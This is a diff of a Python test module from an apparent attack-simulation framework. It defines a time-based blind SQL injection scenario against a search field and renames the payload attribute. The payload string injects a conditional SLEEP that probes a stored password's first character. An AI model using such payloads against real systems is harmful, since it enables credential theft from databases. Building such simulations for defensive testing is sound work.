@@ -3,27 +3,22 @@
 import time
 
 from backwatch.attack.clients.pymysql import PyMySQL
-from backwatch.attack.protocols.tables import MySQLOfTables
 from backwatch.attack.scenarios import Run
 from backwatch.attack.techniques.sql import SearchPage
 
 
 class TimeInjected(SearchPage):
-    """A page writes what its visitor searches for into the statement."""
+    """The search text ends the literal and goes on as a statement."""
 
-    code = "F1"
     attack = "asks the database questions whose answers are delays, through a search field"
     reference = "https://owasp.org/www-community/attacks/Blind_SQL_Injection"
-    rule = "query-attack"
-    server = MySQLOfTables
-    search = "SELECT id, customer, total FROM orders WHERE customer = '{}' ORDER BY id"
-    typed = "nobody' OR (id = 1 AND (SELECT SLEEP(1) FROM accounts WHERE id = 1 AND password LIKE '$%')) -- "
+    injected = "nobody' OR (id = 1 AND (SELECT SLEEP(1) FROM accounts WHERE id = 1 AND password LIKE '$%')) -- "
     runs = (Run(PyMySQL),)
 
     def meet(self) -> object:
         """Return the seconds that the search took."""
         begin = time.monotonic()
-        self.find(self.typed)
+        self.find(self.injected)
         return time.monotonic() - begin
 
     @classmethod
